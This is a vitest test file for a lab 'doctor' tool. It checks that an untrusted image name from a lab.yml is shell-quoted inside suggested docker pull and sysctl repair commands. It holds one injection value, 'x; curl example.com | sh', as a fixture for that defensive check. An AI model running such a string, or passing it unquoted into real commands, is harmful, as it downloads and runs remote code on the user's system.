import { describe, expect, it } from 'vitest';
import { nodeImage, nodesOwnImages } from '../../../src/main/doctor/checks/images.ts';
import { repairOf } from '../../../src/main/doctor/repairs.ts';
import { fixSysctl } from '../../../src/main/doctor/system.ts';
import { HERE, INFO, MACHINE, probed, world } from './world.ts';

/** As it may stand in a lab.yml that somebody else wrote. */
const EVIL = 'x; curl example.com | sh';
const QUOTED = `'${EVIL}'`;
const image = { ...HERE, wanted: EVIL, image: EVIL, from: 'nowhere' } as const;

describe('an image of a lab.yml, in a command to be copied', () => {
  it('is quoted where it is to be pulled', async () => {
    const context = world({
      facts: { images: async () => ({ node: image, registry: HERE }), nodesOwnImages: async () => [image] },
    });
    for (const check of [nodeImage, nodesOwnImages]) {
      expect([await check.run(context)].flat()).toMatchObject([{ commands: [`docker pull ${QUOTED}`] }]);
    }
  });

  it('is quoted where it runs', async () => {
    const machine = { ...MACHINE, settings: { ...MACHINE.settings, instances: 128 } };
    const context = world({
      facts: {
        machine: async () => machine,
        probe: async () => probed(machine),
        images: async () => ({ node: image, registry: HERE }),
      },
    });
    const repair = await repairOf(context.facts, 'kernel.inotify', 'Raise');
    const commands = [...(repair?.commands ?? []), ...(repair?.undo ?? [])];
    commands.push(...fixSysctl({ ...INFO, system: 'Docker Desktop' }, EVIL, { a: 1 }).commands);
    expect(commands).toHaveLength(3);
    for (const command of commands) expect(command).toContain(` ${QUOTED} `);
  });
});
